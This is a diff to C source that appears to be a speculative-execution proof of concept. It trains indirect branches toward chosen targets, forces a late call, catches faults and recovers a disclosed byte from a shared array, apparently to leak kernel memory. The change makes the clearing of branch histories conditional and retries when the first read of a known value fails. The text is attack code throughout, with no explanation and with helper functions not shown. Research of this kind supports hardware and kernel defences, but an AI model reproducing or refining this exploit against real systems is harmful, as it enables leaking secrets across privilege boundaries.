@@ -8,6 +8,9 @@
 static const uint8_t *branches[MOST_ADDRESSES];
 static uint64_t disclosure;
 
+/* Where the kernel does not see what histories user mode leaves, those of its own stay the same. */
+static int forgets;
+
 static void choose(uint64_t address)
 {
 	disclosure = address;
@@ -15,8 +18,8 @@ static void choose(uint64_t address)
 
 static int read_byte(uint64_t address)
 {
-	/* Where the kernel does not see what histories user mode leaves, those of its own stay the same. */
-	forget_histories();
+	if (forgets)
+		forget_histories();
 	for (int i = 0; i < options.branches.count; i++)
 		train(branches[i], disclosure);
 	make_call_late();
@@ -25,11 +28,18 @@ static int read_byte(uint64_t address)
 
 int main(int argc, char **argv)
 {
+	int known_was_read;
+
 	parse_options(argc, argv);
 	prepare_call();
 	catch_faults();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
-	recover(sample, choose_disclosure(choose, read_byte, array + SHARED_KNOWN), 1);
+	known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
+	if (!known_was_read) {
+		forgets = 1;
+		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
+	}
+	recover(sample, patience_if(known_was_read), 1);
 	return 0;
 }
